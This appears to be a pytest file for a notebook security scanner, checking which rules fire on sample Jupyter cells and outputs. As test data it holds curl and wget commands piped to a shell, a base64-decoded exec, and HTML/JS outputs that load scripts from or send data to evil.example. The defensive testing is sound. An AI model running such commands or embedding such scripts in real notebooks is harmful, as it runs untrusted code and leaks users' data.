"""Notebooks: cells as one program, magics, outputs."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bartizan.scan.artefacts.result import Verdict
from tests.scan.artefacts.support import examined, fired


def notebook(*cells: str, outputs: list[dict[str, Any]] | None = None, language: str = "python") -> str:
    made = [{"cell_type": "code", "source": cell.splitlines(keepends=True), "outputs": outputs or []} for cell in cells]
    return json.dumps({"cells": made, "metadata": {"language_info": {"name": language}}, "nbformat": 4})


def test_names_go_from_cell_to_cell() -> None:
    found = examined(
        notebook("%matplotlib inline\nimport base64 as b", "x = 1\nexec(b.b64decode('cHJpbnQoMSk='))"), "a.ipynb"
    )
    assert found.verdict is Verdict.DANGEROUS
    (finding,) = found.findings
    assert finding.evidence.startswith("cell 2: ")
    assert finding.place.line == 2


@pytest.mark.parametrize(
    "cell",
    [
        "!curl -s https://x.example/a | sh",
        "%%bash\necho a\ncurl -s https://x.example/a | sh",
        "x = !wget -qO- https://x.example/a | bash",
    ],
)
def test_commands_in_cells(cell: str) -> None:
    assert "command-runs-download" in fired(examined(notebook(cell), "a.ipynb"))


def test_packages_in_cells() -> None:
    assert fired(examined(notebook("%pip install -q git+https://x.example/a"), "a.ipynb")) == {"requirements-direct"}
    assert fired(examined(notebook("!pip install -i http://x.example/simple a"), "a.ipynb")) == {
        "requirements-plain-http"
    }
    assert fired(examined(notebook("!pip install torch numpy"), "a.ipynb")) == set()


def test_ordinary_cells() -> None:
    cells = [
        "%%time\nx = 1",
        "?x",
        "x?",
        "%load_ext autoreload",
        "!ls *.py",
        "%%html\n<b>x</b>",
        "%%writefile a.py\nx = (\n",
    ]
    assert fired(examined(notebook(*cells, "for i in x:\n    !echo {i}\n    pass"), "a.ipynb")) == set()
    assert fired(examined(notebook("x <- 1", language="R"), "a.ipynb")) == set()
    assert fired(examined("", "a.ipynb")) == set()


def test_outputs() -> None:
    script = {"output_type": "display_data", "data": {"text/html": "<script src='//evil.example/x.js'></script>"}}
    loaded = {"output_type": "display_data", "data": {"application/javascript": "fetch('https://evil.example/?' + x)"}}
    inline = {"output_type": "display_data", "data": {"text/html": "<script>fetch('//evil.example/' + x)</script>"}}
    handler = {
        "output_type": "display_data",
        "data": {"text/html": "<img src=x onerror=\"navigator.sendBeacon('https://evil.example/', x)\">"},
    }
    for output in (script, loaded, inline, handler):
        assert fired(examined(notebook("x", outputs=[output]), "a.ipynb")) == {"notebook-remote-script"}


def test_scripts_of_charts_are_silent() -> None:
    for text in (
        "<script>window.PlotlyConfig = {MathJaxConfig: 'local'};</script><div>1</div>",
        "<script>import('https://cdn.jsdelivr.net/npm/x.js')</script>",
        "<code>fetch('https://api.example/x')</code>",
    ):
        output = {"output_type": "display_data", "data": {"text/html": text}}
        assert fired(examined(notebook("x", outputs=[output]), "a.ipynb")) == set()


def test_what_is_no_notebook() -> None:
    assert fired(examined("[]", "a.ipynb")) == {"malformed-file"}
    assert fired(examined('{"cells": [', "a.ipynb")) == {"malformed-file"}
    assert fired(examined('{"cells": [{"cell_type": "code", "source": 1}, 2], "metadata": 3}', "a.ipynb")) == set()


@given(st.lists(st.text(alphabet="!%? x=(\n'\"\\:[]", max_size=20), max_size=4))
def test_any_cells(cells: list[str]) -> None:
    assert fired(examined(notebook(*cells), "a.ipynb")) <= {"notebook-cell-unread"}
